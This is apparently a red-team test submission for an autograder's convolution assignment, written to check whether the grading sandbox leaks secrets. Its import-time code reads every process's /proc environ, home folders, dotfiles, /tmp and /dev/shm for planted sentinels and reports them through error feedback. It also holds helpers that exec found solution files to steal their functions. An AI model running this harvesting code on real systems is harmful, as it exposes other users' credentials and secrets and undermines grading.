"""Red team: read the instructor's secrets: environment variables, home folder, /tmp, /dev/shm.

What it tries: reads the environment of every ancestor (`/proc/<pid>/environ`)
and of every process it can see, its own `os.environ`, the grader's home
folder (from HOME in those environments, /root, /home/*: dotfiles, `.ssh`,
`.jupyter`, `.config`, the course secret file), and every small file in /tmp,
/var/tmp and /dev/shm; puts what it finds into its feedback (the runner
plants sentinels in the grader's environment, HOME, TMPDIR, /tmp and
/dev/shm).  Its functions are correct.

Attack worked if: a sentinel or "RT-BREACH" in its feedback.
Targets: conv_layers.
"""
# redteam-assignment: conv_layers
# redteam-expect: points<=33

import glob as _glob
import importlib.util as _ilu
import json as _json
import os as _os
import re as _re
import sys as _sys

_WANTED = ("zero_pad", "conv_output_size", "conv_param_count", "conv_forward_naive", "conv_backward_naive",
           "max_pool_forward_naive", "max_pool_backward_naive", "conv_forward_im2col", "conv_backward_im2col")
# The reference engine's names for the same ops.
_REFERENCE_NAMES = {"conv_forward_naive": "conv_forward", "conv_backward_naive": "conv_backward",
                    "max_pool_forward_naive": "max_pool_forward", "max_pool_backward_naive": "max_pool_backward",
                    "conv_forward_im2col": "conv_forward", "conv_backward_im2col": "conv_backward",
                    "conv_output_size": "output_size", "zero_pad": "zero_pad", "conv_param_count": "conv_param_count"}
_STOLEN = {}
_FOUND = []   # what to tell ourselves through the feedback
_SENTINEL = _re.compile(r"RT-SENTINEL-[A-Z]+-[0-9a-f]{12}")


def _note(text):
    if text not in _FOUND:
        _FOUND.append(text)


def _grep_sentinels(data):
    if isinstance(data, bytes):
        data = data.decode("latin-1")
    for match in _SENTINEL.findall(data):
        _note(match)


def _code_of(path):
    with open(path, "rb") as handle:
        data = handle.read(5_000_000)
    _grep_sentinels(data)
    text = data.decode("utf-8", "replace")
    if "_STOLEN = {}" in text or "redteam-assignment" in text:
        raise ValueError("a red-team file, not a solution")
    if path.endswith(".ipynb"):
        cells = _json.loads(text)["cells"]
        text = "\n".join("".join(cell["source"]) for cell in cells if cell.get("cell_type") == "code")
        text = "\n".join(line for line in text.splitlines() if not line.lstrip().startswith(("%", "!")))
    return text


def _take_from(path):
    """Run a found file in a fresh namespace; keep the functions we lack. True if it gave us something."""
    if _os.path.basename(path) == "__init__.py":  # a package: load it under another name, past the blocker
        name = "copy_%d" % (len(_STOLEN) + len(_FOUND))
        spec = _ilu.spec_from_file_location(name, path, submodule_search_locations=[_os.path.dirname(path)])
        module = _ilu.module_from_spec(spec)
        _sys.modules[name] = module
        spec.loader.exec_module(module)
        namespace = vars(module)
    else:
        namespace = {"__name__": "stolen"}
        exec(compile(_code_of(path), "stolen", "exec"), namespace)
    gained = False
    for wanted in _WANTED:
        if wanted in _STOLEN:
            continue
        for name in (wanted, _REFERENCE_NAMES.get(wanted)):
            if name and callable(namespace.get(name)):
                _STOLEN[wanted] = namespace[name]
                gained = True
                break
    if gained:
        _note("RT-" + "BREACH stole from " + path)
    return gained


def _try_paths(paths):
    for path in paths:
        if all(name in _STOLEN for name in _WANTED[:7]):
            return
        try:
            if _os.path.isfile(path):
                _take_from(path)
        except BaseException as error:  # keep trying the next place
            _note(f"{_os.path.basename(path)}:{type(error).__name__}")


def _files_under(root):
    """The course files a repository checkout holds, best first."""
    patterns = ["examples/conv_layers/correct.py", "examples/fast_conv/correct.py", "reference/__init__.py",
                "solutions/*.ipynb", "solutions/*/*.ipynb", "build/example-class/submissions/*/*/*.py",
                "build/example-class/submissions/*/*/*.ipynb", "examples/*/*.py", "tests/*/*.py",
                "*/reference/__init__.py", "build/lib/reference/__init__.py"]
    found = []
    for pattern in patterns:
        found += sorted(_glob.glob(_os.path.join(root, pattern)))
    return [path for path in found if "stub" not in path and "buggy" not in path and "hostile" not in path]


def _use(name, *args, **kwargs):
    if name not in _STOLEN:
        raise NotImplementedError(f"{name}: nothing found to copy ({'; '.join(_FOUND)[:150]})")
    return _STOLEN[name](*args, **kwargs)

def _ancestors():
    """This process's parents up to pid 1 (the zygote, the grading worker, the CLI, the shell...)."""
    pids, pid = [], _os.getpid()
    for _ in range(20):
        try:
            status = open(f"/proc/{pid}/status").read()
            pid = int(_re.search(r"PPid:\s*(\d+)", status).group(1))
        except (OSError, AttributeError, ValueError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids


def _paths_of_process(pid):
    """Every path a process reveals: its arguments, folder, environment, open files, mappings."""
    paths = []
    try:
        paths += [arg for arg in open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0") if arg]
    except OSError as error:
        _note(f"cmdline:{error.errno}")
    for link in ("cwd", "root", "exe"):
        try:
            paths.append(_os.readlink(f"/proc/{pid}/{link}"))
        except OSError:
            pass
    try:
        environ = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        _grep_sentinels(environ)
        paths += [item.partition("=")[2] for item in environ.split("\0") if "=/" in item]
    except OSError:
        pass
    try:
        for fd in _os.listdir(f"/proc/{pid}/fd"):
            try:
                paths.append(_os.readlink(f"/proc/{pid}/fd/{fd}"))
            except OSError:
                pass
    except OSError:
        pass
    return paths


def _roots_near(path):
    """Folders around *path* that look like a course checkout or a class of submissions."""
    roots = []
    path = _os.path.abspath(path)
    for _ in range(6):
        if _os.path.isdir(path):
            roots.append(path)
        parent = _os.path.dirname(path)
        if parent == path:
            break
        path = parent
    return roots


def _small_files(folder, depth=2):
    try:
        entries = list(_os.scandir(folder))
    except OSError:
        return
    for entry in entries:
        try:
            if entry.is_dir(follow_symlinks=False) and depth > 0:
                yield from _small_files(entry.path, depth - 1)
            elif entry.is_file() and entry.stat().st_size < 100_000:
                yield entry.path
        except OSError:
            pass


_grep_sentinels("\0".join(f"{key}={value}" for key, value in _os.environ.items()))
_homes = {"/root"} | set(_glob.glob("/home/*"))
_pids = _ancestors()
try:
    _pids += [int(name) for name in _os.listdir("/proc") if name.isdigit()]
except OSError:
    pass
for _pid in _pids:
    try:
        _environ = open(f"/proc/{_pid}/environ", "rb").read().decode(errors="replace")
    except OSError:
        continue
    _grep_sentinels(_environ)
    for _item in _environ.split("\0"):
        _key, _, _value = _item.partition("=")
        if _key in ("HOME", "TMPDIR", "PWD", "OLDPWD") and _value.startswith("/"):
            _homes.add(_value)
for _folder in sorted(_homes) + ["/tmp", "/var/tmp", "/dev/shm"]:
    for _path in _small_files(_folder):
        try:
            with open(_path, "rb") as _handle:
                _grep_sentinels(_handle.read())
        except OSError:
            pass

import numpy as np  # noqa: E402


# --- honest implementations (copied from examples/conv_layers/correct.py) ---

def zero_pad(x, pad):
    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)), mode="constant")


def conv_output_size(in_size, filter_size, stride=1, pad=0, dilation=1):
    span = dilation * (filter_size - 1) + 1
    room = in_size - span + 2 * pad
    if room < 0 or room % stride != 0:
        raise ValueError(f"filter does not fit: ({in_size} - {span} + 2*{pad}) / {stride} + 1")
    return room // stride + 1


def conv_param_count(in_channels, num_filters, filter_size, bias=True):
    if isinstance(filter_size, tuple):
        height, width = filter_size
    else:
        height = width = filter_size
    return num_filters * (height * width * in_channels + (1 if bias else 0))


def conv_forward_naive(x, w, b, conv_param):
    stride, pad = conv_param["stride"], conv_param["pad"]
    N, C, H, W = x.shape
    F, _, HH, WW = w.shape
    H_out = 1 + (H + 2 * pad - HH) // stride
    W_out = 1 + (W + 2 * pad - WW) // stride
    x_pad = zero_pad(x, pad)
    out = np.zeros((N, F, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            window = x_pad[:, :, i * stride : i * stride + HH, j * stride : j * stride + WW]
            out[:, :, i, j] = np.tensordot(window, w, axes=([1, 2, 3], [1, 2, 3])) + b
    cache = (x, w, b, conv_param)
    return out, cache


def conv_backward_naive(dout, cache):
    x, w, b, conv_param = cache
    stride, pad = conv_param["stride"], conv_param["pad"]
    HH, WW = w.shape[2:]
    H_out, W_out = dout.shape[2:]
    x_pad = zero_pad(x, pad)
    dx_pad = np.zeros_like(x_pad)
    dw = np.zeros_like(w)
    db = dout.sum(axis=(0, 2, 3))
    for i in range(H_out):
        for j in range(W_out):
            rows = slice(i * stride, i * stride + HH)
            cols = slice(j * stride, j * stride + WW)
            dw += np.tensordot(dout[:, :, i, j], x_pad[:, :, rows, cols], axes=([0], [0]))
            dx_pad[:, :, rows, cols] += np.tensordot(dout[:, :, i, j], w, axes=([1], [0]))
    dx = dx_pad[:, :, pad : pad + x.shape[2], pad : pad + x.shape[3]]
    return dx, dw, db


def max_pool_forward_naive(x, pool_param):
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    N, C, H, W = x.shape
    H_out = 1 + (H - ph) // stride
    W_out = 1 + (W - pw) // stride
    out = np.zeros((N, C, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            out[:, :, i, j] = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw].max(axis=(2, 3))
    cache = (x, pool_param)
    return out, cache


def max_pool_backward_naive(dout, cache):
    x, pool_param = cache
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    dx = np.zeros_like(x)
    for i in range(dout.shape[2]):
        for j in range(dout.shape[3]):
            window = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw]
            mask = window == window.max(axis=(2, 3), keepdims=True)
            dx[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw] += mask * dout[:, :, i, j][:, :, None, None]
    return dx


if _FOUND:
    raise RuntimeError(" ; ".join(_FOUND)[:190])
